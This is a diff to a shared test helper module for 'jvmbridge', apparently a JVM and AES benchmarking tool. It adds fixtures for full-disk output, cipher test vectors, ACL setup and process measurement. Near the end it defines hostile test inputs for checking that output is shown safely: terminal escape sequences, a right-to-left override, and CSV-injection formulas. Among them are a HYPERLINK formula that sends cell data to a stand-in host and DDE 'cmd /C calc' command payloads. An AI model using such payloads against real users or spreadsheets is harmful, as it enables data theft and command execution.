@@ -9,9 +9,11 @@ import os
 import random
 import shutil
 import signal
+import struct
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 import zipfile
 from pathlib import Path
@@ -24,7 +26,7 @@ from jvmbridge.jvm.discovery import JavaInstall, default_java, discover
 from jvmbridge.results import Measurement
 from jvmbridge.saved.store import data_dir
 from jvmbridge.stats import DISTURBED_SHARE, summarize
-from jvmbridge.workload import Sampling, Workload, combinations
+from jvmbridge.workload import KEY_BITS, Operation, Sampling, Workload, combinations
 
 # This folder (its test data in data/, its Java sources in java/), the checkout it is in, and the folder
 # of the fast tier: tests that need no JVM, OpenSSL, qemu, sshd or browser (conftest.py marks them `fast`).
@@ -308,3 +310,96 @@ def verdicts(part) -> dict[str, dict]:
 
 def cpu_has_aes() -> bool:
     return "aes" in open("/proc/cpuinfo").read().split()
+
+
+# -- stdout on a full disk (both halves of test_bad_input) ---------------------------------------------------
+
+def run_cli_into_a_full_disk(*args: str) -> subprocess.CompletedProcess:
+    """The CLI with its stdout on /dev/full, where every write fails as on a full disk (ENOSPC)."""
+    with open("/dev/full", "w") as full:
+        return subprocess.run([sys.executable, "-m", "jvmbridge", *args], stdout=full, stderr=subprocess.PIPE,
+                              text=True, timeout=300)
+
+
+FULL = "jvmbridge: error: the output could not be written to stdout: No space left on device"
+
+
+# -- test vectors: every key size and padding edge (both halves of test_cross_language) ----------------------
+
+SIZES = (0, 1, 15, 16, 17, 38, 4096)
+
+
+def vectors(mode: str = "cbc") -> list[tuple[bytes, bytes, bytes]]:
+    return [(w.key, w.iv, w.plaintext) for bits in KEY_BITS for size in SIZES
+            for w in [Operation(key_bits=bits, message_bytes=size, mode=mode)]]
+
+
+# -- `report --format json` of published texts (both halves of test_published) -------------------------------
+
+def report(*args) -> tuple[dict, str]:
+    done = run_cli("report", "--format", "json", *map(str, args))
+    assert done.returncode == 0, done.stderr
+    return json.loads(done.stdout), done.stderr
+
+
+def rows_by_configuration(document: dict) -> dict[str, dict]:
+    return {row["configuration"]: row for row in document["comparison"]}
+
+
+# -- ACL entries (both halves of test_root_paths) ------------------------------------------------------------
+
+# Linux's POSIX ACL xattr (acl_ea.h): version 2, then (tag, permissions, id) sorted by tag and id.
+_EVERYONE = 0xFFFFFFFF
+
+
+def write_acl(path: Path, writer_uid: int, attribute: str = "system.posix_acl_access") -> None:
+    """Give uid ``writer_uid`` rwx on ``path`` by an ACL entry, as `setfacl -m u:UID:rwx` does;
+    the mode bits `ls -l` shows stay root's (group r-x, as the mask is rwx: drwxrwxr-x+)."""
+    entries = [(0x01, 7, _EVERYONE), (0x02, 7, writer_uid), (0x04, 5, _EVERYONE), (0x10, 7, _EVERYONE),
+               (0x20, 5, _EVERYONE)]
+    os.setxattr(path, attribute, struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *e) for e in entries))
+
+
+# -- a run file 0.1.0 wrote (both halves of test_schema) -----------------------------------------------------
+
+OLD = DATA / "run-0.1.0.jsonl"
+
+
+def saved_rows() -> list[dict]:
+    return [json.loads(line)["row"] for line in OLD.read_text().splitlines() if '"measurement"' in line]
+
+
+# -- processes measured as the kernel sees them (both halves of test_security_jvms) --------------------------
+
+needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root: the threat is root running check")
+
+
+def run_measured(*argv: str, timeout: float = 120) -> tuple[int, str, str, int]:
+    """Exit code, stdout, stderr, and the peak memory (KiB) of the process and of every process
+    it waited for (its forked children): what the kernel's wait4 reports."""
+    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
+        process = subprocess.Popen(argv, stdout=out, stderr=err, text=True)
+        watchdog = threading.Timer(timeout, process.kill)
+        watchdog.start()
+        try:
+            _, status, usage = os.wait4(process.pid, 0)
+        finally:
+            watchdog.cancel()
+            process.returncode = -1  # reaped by wait4: Popen must not wait for it again
+        out.seek(0)
+        err.seek(0)
+        return os.waitstatus_to_exitcode(status), out.read(), err.read(), usage.ru_maxrss
+
+
+# -- hostile text and how it is shown (both halves of test_untrusted_text) -----------------------------------
+
+# Set the window title, clear the screen, a C1 CSI, a newline that would fake a line, a
+# right-to-left override that would reorder what follows.
+EVIL = "app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"
+SHOWN_AS_LINES = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m" + "\n" + r"AES acceleration is active everywhere checked.\u202egnp"
+SHOWN = r"app\x1b]0;pwned\x07\x1b[2J\x9b31m\nAES acceleration is active everywhere checked.\u202egnp"
+
+
+# What a spreadsheet would run as a formula (OWASP's CSV injection), each as a host could name itself.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
